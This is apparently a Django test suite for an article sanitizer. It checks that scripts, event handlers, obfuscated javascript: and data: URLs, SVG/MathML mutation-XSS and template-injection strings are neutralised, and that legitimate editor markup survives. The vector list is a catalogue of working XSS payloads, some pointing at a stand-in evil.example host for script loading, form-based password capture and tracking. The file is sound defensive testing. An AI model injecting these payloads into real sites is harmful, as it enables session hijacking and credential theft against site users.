"""The body sanitizer: no XSS vector survives into the stored body or the admin preview, and
what the article toolbar legitimately produces does survive.

Checks are structural (which tags, attributes and URL schemes remain, as a browser would parse
them), not a search for the word "alert": harmless text may keep it.
"""

import html
import re
from html.parser import HTMLParser

import pytest
from django.test import SimpleTestCase

from articles.models import Article
from articles.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, URL_SCHEMES, clean_html
from review.services import article_save
from tests.articles.editing_helpers import form_data, make_editor, make_source, post_ready

XSS_VECTORS = [
    # Script elements, in many spellings.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type=\"text/javascript\">alert(1);</script>",
    "<<script>alert(1);//<</script>",
    "<script/xss src=x>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<p onclick=\"alert(1)\">click</p>",
    "<body onload=alert(1)>",
    "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">hover</a>",
    "<div onpointerenter=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<h2 id=x tabindex=1 onfocus=alert(1) autofocus>t</h2>",
    # javascript:, data: and vbscript: URLs, plain, mixed case, entity- and whitespace-obfuscated.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\nascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
    "<q cite=\"data:text/html,x\">q</q>",
    "<a href=\"//evil.example\" xlink:href=\"javascript:alert(1)\">x</a>",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    # Frames.
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    # Styles.
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<span style=\"behavior:url(x.htc)\">x</span>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    # Forms.
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=\"javascript:alert(1)\">go</button>",
    "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "<select onchange=alert(1)><option>x</option></select>",
    # Plugins and document-level elements.
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<img src=\"https://evil.example/track.gif\">",
    # mXSS: markup that changes meaning when parsed, serialized and parsed again.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><a href=\"javascript:alert(1)\">x</a><td></table>",
    "<template><script>alert(1)</script></template>",
    "<a title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" href=\"https://ok.example\">x</a>",
    "<p>a</p><!--><img src=x onerror=alert(1)>-->",
    # CKEditor's protected source comments (how it hides scripts in the editing area).
    "<!--{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E-->",
    "<p><!--{cke_protected}{C}%3C!%2D%2D%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E--></p>",
    "<p data-cke-saved-href=\"javascript:alert(1)\" data-cke-pa-onclick=\"alert(1)\">x</p>",
    # Template injection: must stay inert text, never evaluated.
    "<p>{{ request.user.password }} {% debug %} {{ \"pwned\"|upper }}</p>",
    "<p>${alert(1)} #{alert(1)} <%= 7*7 %></p>",
    # Attribute smuggling and odd syntax.
    "<a href=\"https://ok.example\" target=\"_blank\" rel=\"opener\" class=\"x\" id=\"y\">x</a>",
    "<img/src=x/onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
]

PREVIEW_EXTRA = {  # what render_citations and the preview wrapper add around the body
    "sup": {"class"}, "a": {"href", "id", "aria-label"}, "span": {"class", "title"}, "div": {"class"},
}


class _Structure(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.comments = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)


def scheme_of(url):
    """The URL scheme a browser would see (it ignores control characters and whitespace)."""
    compact = re.sub(r"[\x00-\x20]+", "", html.unescape(url)).lower()
    match = re.match(r"^([a-z][a-z0-9+.\-]*):", compact)
    return match.group(1) if match else None


def assert_inert(markup, *, extra=None):
    """Only allowlisted tags, attributes and URL schemes; no comments; no event handlers."""
    extra = extra or {}
    parser = _Structure()
    parser.feed(markup)
    parser.close()
    assert not parser.comments, f"comment survived: {parser.comments}"
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS or tag in extra, f"<{tag}> survived in {markup!r}"
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | extra.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert not name.startswith("on"), f"{name} on <{tag}> survived in {markup!r}"
            assert name in allowed, f"attribute {name} on <{tag}> survived in {markup!r}"
            if name in {"href", "cite", "src", "action"} and value:
                scheme = scheme_of(value)
                assert scheme is None or scheme in URL_SCHEMES, f"{name}={value!r} survived in {markup!r}"
    lowered = markup.lower()
    for needle in ("<script", "<style", "<iframe", "<svg", "<math", "<object", "<embed", "<form", "<input",
                   "<meta", "<base", "<link", "<img", "style=", "srcdoc", "<!--"):
        assert needle not in lowered, f"{needle} survived in {markup!r}"


def test_there_are_at_least_fifty_vectors():
    assert len(XSS_VECTORS) >= 50


class SanitizerTests(SimpleTestCase):
    def test_clean_html_leaves_no_vector_active(self):
        for vector in XSS_VECTORS:
            with self.subTest(vector=vector):
                assert_inert(clean_html(vector))

    def test_clean_html_is_idempotent_on_every_vector(self):
        for vector in XSS_VECTORS:
            with self.subTest(vector=vector):
                once = clean_html(vector)
                self.assertEqual(clean_html(once), once)

    def test_template_syntax_stays_plain_text(self):
        cleaned = clean_html("<p>{{ request.user.password }} {% debug %}</p>")
        self.assertEqual(cleaned, "<p>{{ request.user.password }} {% debug %}</p>")


@pytest.mark.django_db
@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_vector_does_not_survive_in_the_stored_body(vector):
    article = Article(title="XSS", slug="xss", body=f"<p>Before.</p>{vector}<p>After.</p>")
    article.save()
    stored = Article.objects.get(pk=article.pk).body
    assert_inert(stored)
    assert "<p>Before.</p>" in stored  # (an unclosed <math> may swallow what follows: fine)


@pytest.mark.django_db
@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_vector_does_not_survive_in_the_admin_preview(client, vector):
    client.force_login(make_editor(superuser=True))
    article = Article(title="XSS", slug="xss", body=f"<p>Before.</p>{vector}<p>After.</p>")
    article.save()
    # Even a body written around Article.save() (as a version restore does) is cleaned on display.
    Article.objects.filter(pk=article.pk).update(body=f"<p>Before.</p>{vector}<p>After.</p>")
    page = client.get(f"/admin/articles/article/{article.pk}/change/").content.decode()
    match = re.search(r'<div class="article-preview">(.*?)</div>\s*</div>', page, re.DOTALL)
    assert match, "the preview panel is missing"
    preview = match.group(1)
    assert_inert(preview, extra=PREVIEW_EXTRA)
    assert "PWNED" not in page  # template syntax in the body is never evaluated


@pytest.mark.django_db
def test_vectors_posted_through_the_admin_are_stored_inert(client):
    client.force_login(make_editor(superuser=True))
    data = form_data(client.get("/admin/articles/article/add/"))
    data.update(title=["Posted"], slug=["posted"], body=["<p>Text.</p>" + "".join(XSS_VECTORS)])
    assert client.post("/admin/articles/article/add/", post_ready(data)).status_code == 302
    assert_inert(Article.objects.get(slug="posted").body)


LEGITIMATE = {
    "headings": "<h2 id=\"dose\">Dose</h2><h3>Adults</h3><h4>Older adults</h4>",
    "paragraph with inline styles": "<p><strong>Bold</strong>, <em>italic</em>, <s>gone</s>, <u>u</u>, "
                                    "H<sub>2</sub>O, 10<sup>3</sup>, <code>Mg</code></p>",
    "bulleted list": "<ul><li>Spinach</li><li>Pumpkin seeds</li></ul>",
    "numbered list": "<ol start=\"3\"><li>Third</li><li>Fourth</li></ol>",
    "table": "<table><caption>Forms</caption><thead><tr><th scope=\"col\">Form</th><th scope=\"col\">Elemental %</th>"
             "</tr></thead><tbody><tr><td>Oxide</td><td>60</td></tr><tr><td colspan=\"2\">Note</td></tr></tbody>"
             "<tfoot><tr><td>x</td><td>y</td></tr></tfoot></table>",
    "blockquote": "<blockquote><p>Quoted guideline.</p></blockquote>",
    "rule": "<p>a</p><hr><p>b</p>",
    "anchor": "<p><a id=\"top\" name=\"top\" rel=\"noopener noreferrer\"></a>Start</p>",
    "citation marker": "<p>A claim.[[cite:pmid:32956536]] Another.[[cite:doi:10.3390/nu15092094; 12]]</p>",
    "numeric reference text": "<p>Studies show it.[1] And this.¹²</p>",
}


class LegitimateContentTests(SimpleTestCase):
    def test_editor_output_survives(self):
        for name, fragment in LEGITIMATE.items():
            with self.subTest(name):
                self.assertEqual(clean_html(fragment), fragment)

    def test_links_keep_href_and_title_and_gain_rel(self):
        for href in ("https://pubmed.ncbi.nlm.nih.gov/32956536/", "http://example.org/a?b=1&amp;c=2",
                     "mailto:editors@magsite.invalid", "tel:+441234567890", "#references", "/articles/x/"):
            with self.subTest(href):
                cleaned = clean_html(f'<p><a href="{href}" title="Source">link</a></p>')
                self.assertIn(f'href="{href}"', cleaned)
                self.assertIn('title="Source"', cleaned)
                self.assertIn('rel="noopener noreferrer"', cleaned)

    def test_classes_and_styles_are_removed_but_text_kept(self):
        cleaned = clean_html('<p class="lead" style="color:red">Text <span style="font-size:9px">kept</span></p>')
        self.assertEqual(cleaned, "<p>Text <span>kept</span></p>")


@pytest.mark.django_db
def test_legitimate_body_round_trips_through_save_unchanged():
    body = "".join(LEGITIMATE[name] for name in ("headings", "bulleted list", "table", "paragraph with inline styles"))
    article = Article(title="Fine", slug="fine", body=body)
    article.save()
    assert Article.objects.get(pk=article.pk).body == body


@pytest.mark.django_db
def test_markers_survive_save_and_render_as_numbered_links():
    source = make_source(pmid="32956536")
    article = article_save(article=Article(title="Cite", slug="cite", body="<p>Claim.[[cite:pmid:32956536]]</p>"))
    assert "[[cite:pmid:32956536]]" in Article.objects.get(pk=article.pk).body
    assert list(article.citations.values_list("source", flat=True)) == [source.pk]
